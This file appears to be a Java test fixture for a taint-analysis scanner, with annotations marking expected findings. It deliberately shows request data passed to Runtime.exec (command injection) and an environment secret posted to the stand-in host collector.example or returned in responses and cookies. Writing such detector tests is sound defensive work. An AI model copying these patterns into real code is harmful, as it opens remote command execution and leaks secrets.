// javax.servlet and jakarta.servlet, JAX-RS, the JDK's own HTTP server: what requests bring and answers take out.
package app;

import com.sun.net.httpserver.HttpExchange;
import jakarta.servlet.http.*;
import javax.ws.rs.GET;
import javax.ws.rs.client.*;
import javax.ws.rs.core.Response;
import org.springframework.web.client.RestTemplate;

class Served {
    static final String U = "https://collector.example/u";
    static final RestTemplate rest = new RestTemplate();

    void parameter(HttpServletRequest request) {
        Runtime.getRuntime().exec(request.getParameter("c")); //~ source(NETWORK) f1, sink(exec.command) f1, finding(traced) f1
        Runtime.getRuntime().exec("x" + (request.getParameter("c") == null)); //~ ok
    }

    void body(HttpServletRequest request) {
        Runtime.getRuntime().exec(request.getReader().readLine()); //~ source(NETWORK) f2, sink(exec.command) f2, finding(traced) f2
        Runtime.getRuntime().exec("x" + (request.getReader() == null)); //~ ok
    }

    void attribute(HttpServletRequest request) {
        request.setAttribute("t", System.getenv("T")); //~ source(ENVIRONMENT) f3
        rest.postForObject(U, request.getAttribute("t"), String.class); //~ sink(egress.http) f3, finding(traced) f3
        request.setAttribute("u", "x"); //~ ok
        rest.postForObject(U, request.getAttribute("u"), String.class); //~ ok
    }

    void part(Part part) {
        Runtime.getRuntime().exec(part.getSubmittedFileName()); //~ source(NETWORK) f4, sink(exec.command) f4, finding(traced) f4
        Runtime.getRuntime().exec("x" + (part.getSubmittedFileName() == null)); //~ ok
    }

    void partStream(Part part) {
        Runtime.getRuntime().exec(new String(part.getInputStream().readAllBytes())); //~ source(NETWORK) f5, sink(exec.command) f5, finding(traced) f5
        Runtime.getRuntime().exec("x" + (part.getInputStream() == null)); //~ ok
    }

    void answered(HttpServletResponse response) {
        response.setStatus(200);
        response.getWriter().println(System.getenv("T")); //~ source(ENVIRONMENT) f6, sink(egress.http) f6, finding(traced) f6, capability(NETWORK)
        response.getWriter().println("x"); //~ ok
    }

    void answeredBytes(HttpServletResponse response) {
        response.getOutputStream().write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7, capability(NETWORK)
        response.getOutputStream().write(1); //~ ok
    }

    void answeredHeader(HttpServletResponse response) {
        response.addCookie(new Cookie("t", System.getenv("T"))); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8, capability(NETWORK)
        response.addCookie(new Cookie("t", "x")); //~ ok
    }

    void answeredStatus(HttpServletResponse response) {
        response.setContentType(System.getenv("T")); //~ ok
        rest.postForObject(U, response, String.class); //~ ok
    }

    void cookie() {
        rest.postForObject(U, new Cookie("t", System.getenv("T")).getValue().trim(), String.class); //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9
        rest.postForObject(U, new Cookie("t", "x").getValue().trim(), String.class); //~ ok
    }

    Response resource() {
        return Response.ok(System.getenv("T")).build(); //~ source(ENVIRONMENT) f10, sink(egress.http) f10, finding(traced) f10, capability(NETWORK)
    }

    Response resourceHeader() {
        return Response.ok("x").header("X-Token", System.getenv("T")).build(); //~ source(ENVIRONMENT) f11, sink(egress.http) f11, finding(traced) f11
    }

    Response resourceConstant() {
        return Response.ok("x").header("X-Version", "1").build(); //~ ok
    }

    void client(Client client) {
        client.target("https://rs.collector.example/u").request().post(Entity.json(System.getenv("T"))); //~ source(ENVIRONMENT) f12, sink(egress.http) f12, finding(traced) f12, capability(NETWORK), endpoint("https://rs.collector.example/u")
        client.target("https://rs.collector.example/u").request().post(Entity.json("x")); //~ ok
    }

    void exchange(HttpExchange exchange) {
        Runtime.getRuntime().exec(new String(exchange.getRequestBody().readAllBytes())); //~ source(NETWORK) f13, sink(exec.command) f13, finding(traced) f13
        Runtime.getRuntime().exec("x" + (exchange.getRequestBody() == null)); //~ ok
    }

    void exchangeUri(HttpExchange exchange) {
        Runtime.getRuntime().exec(exchange.getRequestURI().getQuery()); //~ source(NETWORK) f14, sink(exec.command) f14, finding(traced) f14
        Runtime.getRuntime().exec("x" + (exchange.getRequestURI() == null)); //~ ok
    }

    void exchangeAnswer(HttpExchange exchange) {
        exchange.getResponseBody().write(System.getenv("T").getBytes()); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15, capability(NETWORK)
        exchange.getResponseBody().write(1); //~ ok
    }
}

class Resource {
    @GET //~ sink(egress.http) fget, finding(traced) fget, capability(NETWORK)
    public String settings() { return System.getenv("T"); } //~ source(ENVIRONMENT) fget

    @GET /* GET */ //~ ok
    public String pong() { return "pong"; }
}
